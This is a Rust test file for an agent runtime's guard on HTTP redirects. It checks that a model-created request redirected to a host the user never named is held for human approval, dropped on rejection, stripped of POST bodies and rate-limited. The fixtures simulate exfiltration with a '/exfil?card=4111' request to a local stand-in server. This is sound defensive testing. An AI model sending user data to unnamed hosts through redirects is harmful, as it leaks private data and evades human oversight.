//! Redirects to another origin: what a first request to it would be asked, they are.

use std::fs;
use std::sync::Arc;

use ephor::DecisionType as D;
use ephor::core::Effect;
use ephor::events::{Answer, CallHeld, DecisionOutcome, NodeExecutionFailed};
use ephor::inbox::Outcome;
use ephor::model::Scripted;
use ephor_tests::house::{House, builder, create_get};
use ephor_tests::http::{Request, Response, Server};
use serde_json::{Value, json};

use crate::approvals::{reject, say, waits};
use crate::flows::answer;

const POLICY: &str =
    include_str!("../../../crates/policy/policies/untrusted-content/untrusted-content.cedar");

/// A server that redirects: `/redir?to=URL`, `/see?to=URL` after a POST.
async fn helpful() -> Server {
    let send = |request: Request| {
        let (path, to) = request.path.split_once("?to=").unwrap_or((&request.path, ""));
        let status = if path == "/see" { 303 } else { 302 };
        let answer = Response::status(status).header("location", to);
        std::future::ready(if to.is_empty() { Response::text("fine") } else { answer })
    };
    Server::start(send).await
}

/// A runtime with the shipped policy, to whose user the text is said.
async fn house(said: &str) -> (House, tempfile::TempDir) {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("p.cedar"), POLICY).unwrap();
    let hear = answer("Understood.");
    let hear = json!({"decision_type": hear.decision_type.as_str(), "payload": hear.payload});
    let model = Scripted::new().then(hear.to_string());
    let house = House::of(builder().model(model).policy(folder.path())).await;
    house.talk.send(said).await.unwrap();
    (house, folder)
}

fn post(url: &str) -> Value {
    json!({"action_type": "create_node", "node_type": "HTTP", "node_name": "ask",
           "config": {"url": url, "method": "POST", "body": {"text": "hello"}}})
}

/// The user named one host, and a model has it redirect to another, with data.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_that_nobody_named_gets_nothing_unasked() {
    let (first, other) = (helpful().await, helpful().await);
    let exfil = other.url("/exfil?card=4111");
    // Straight there, and over a redirect within the first host.
    for (known, path) in ["/redir?to=", "/redir?to=/redir?to="].into_iter().enumerate() {
        let (house, folder) = house(&format!("Ask {}", first.url("/"))).await;
        let node =
            house.decide(D::CreateNode, create_get(&first.url(&format!("{path}{exfil}")))).await;
        let held = house.event("the hold", |_: &CallHeld| true).await;
        assert_eq!(held.question.rules, ["untrusted-destination"]);
        assert_eq!(held.payload["config"], json!({"url": exfil, "method": "GET"}));
        let origin = held.question.origins.iter().find(|origin| origin.pointer == "/config/url");
        let origin = origin.unwrap();
        let source = first.url("").replace("http://", "http:");
        assert!(
            origin.untrusted_alone && origin.provenance.sources.contains(&*source),
            "{origin:?}"
        );
        assert_eq!(other.requests().len(), known, "it was sent before anybody was asked");
        let asked = first.requests().len();
        let item = waits(&house.runtime).await.pop().unwrap();
        let outcome = say(&house.runtime.inbox(), &item, "ada", Answer::Approve).await.unwrap();
        assert_eq!(outcome, Outcome::Approved);
        assert_eq!(house.end(node).await.outcome, DecisionOutcome::Done);
        // Exactly that, and nothing before it again.
        assert_eq!(other.requests()[known].path, "/exfil?card=4111");
        assert_eq!((other.requests().len(), first.requests().len()), (known + 1, asked));
        house.runtime.shutdown().await;
        drop(folder);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_that_a_person_rejects_ends_the_node() {
    let (first, other) = (helpful().await, helpful().await);
    let (house, _folder) = house(&format!("Ask {}", first.url("/"))).await;
    let target = other.url("/exfil");
    for (known, (payload, effect)) in [
        (create_get(&first.url(&format!("/redir?to={target}"))), Effect::Unsaid),
        // It was answered, so it may have been done.
        (post(&first.url(&format!("/see?to={target}"))), Effect::Unknown),
    ]
    .into_iter()
    .enumerate()
    {
        let node = house.decide(D::CreateNode, payload).await;
        house.seen.wait_for::<CallHeld>(known + 1).await;
        let item = waits(&house.runtime).await.pop().unwrap();
        // A redirect takes no body elsewhere, and no POST.
        assert_eq!(item.hold.payload["config"], json!({"url": target, "method": "GET"}));
        say(&house.runtime.inbox(), &item, "ada", reject("who is that?")).await.unwrap();
        assert_eq!(house.end(node).await.outcome, DecisionOutcome::Failed);
        let failed: Vec<Arc<NodeExecutionFailed>> = house.all().await;
        let failure = &failed.last().unwrap().failure;
        assert!(failure.message.contains("REDIRECT_REFUSED"), "{failure}");
        assert!(failure.message.contains("who is that?"), "{failure}");
        assert!(failure.detail.as_ref().is_some_and(|text| text.contains(&target)), "{failure:?}");
        assert_eq!(failure.effect, effect, "{failure:?}");
        assert_eq!((other.requests().len(), first.requests().len()), (0, known + 1));
    }
    house.runtime.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_that_the_user_named_is_followed() {
    let (first, other) = (helpful().await, helpful().await);
    let said = format!("Ask {} and {}", first.url("/"), other.url("/"));
    let (house, _folder) = house(&said).await;
    let there = first.url(&format!("/redir?to={}", other.url("/in")));
    for payload in [create_get(&there), post(&there)] {
        assert_eq!(house.carried_out(D::CreateNode, payload).await.outcome, DecisionOutcome::Done);
    }
    let got = other.requests();
    assert_eq!(got.len(), 2);
    assert!(got.iter().all(|request| request.method == "GET" && request.body.is_empty()));
    assert!(house.all::<CallHeld>().await.is_empty());
    house.runtime.shutdown().await;
}

/// A loop's redirects are those of its iterations.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_loops_redirect_is_held_too() {
    let (first, other) = (helpful().await, helpful().await);
    let (house, _folder) = house(&format!("Ask {}", first.url("/"))).await;
    let url = first.url(&format!("/redir?to={}", other.url("/${item}")));
    let body = json!({"type": "HTTP", "config": {"url": url, "method": "GET"}});
    let node = json!({"action_type": "create_node", "node_type": "LOOP", "node_name": "ask",
                      "config": {"items": [7], "body": body}});
    let node = house.decide(D::CreateNode, node).await;
    let held = house.event("the hold", |_: &CallHeld| true).await;
    assert_eq!(held.payload["config"]["url"], other.url("/7"));
    assert_eq!(other.requests().len(), 0);
    let item = waits(&house.runtime).await.pop().unwrap();
    say(&house.runtime.inbox(), &item, "ada", Answer::Approve).await.unwrap();
    assert_eq!(house.end(node).await.outcome, DecisionOutcome::Done);
    assert_eq!(other.requests()[0].path, "/7");
    house.runtime.shutdown().await;
}

/// Two questions to one call: the judge has counted each.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_counts_as_a_request() {
    let (first, other) = (helpful().await, helpful().await);
    let limited = builder().model(Scripted::new()).configure(|settings| {
        settings.judge.http_per_minute = Some(1);
    });
    let house = House::of(limited).await;
    let url = first.url(&format!("/redir?to={}", other.url("/in")));
    let end = house.carried_out(D::CreateNode, create_get(&url)).await;
    assert_eq!(end.outcome, DecisionOutcome::Failed);
    let failed = house.all::<NodeExecutionFailed>().await;
    let why = &failed[0].failure.message;
    assert!(why.contains("REDIRECT_REFUSED") && why.contains("in the last minute"), "{why}");
    assert_eq!(other.requests().len(), 0);
    house.runtime.shutdown().await;
}
